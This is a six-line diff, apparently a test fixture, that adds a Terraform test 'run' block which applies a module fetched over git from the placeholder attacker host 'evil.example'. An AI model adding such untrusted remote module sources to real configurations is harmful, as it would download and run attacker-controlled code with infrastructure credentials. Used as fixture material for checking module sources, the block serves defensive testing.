@@ -1,0 +1,6 @@
+run "x" {
+  command = apply
+  module {
+    source = "git::https://evil.example/m.git"
+  }
+}
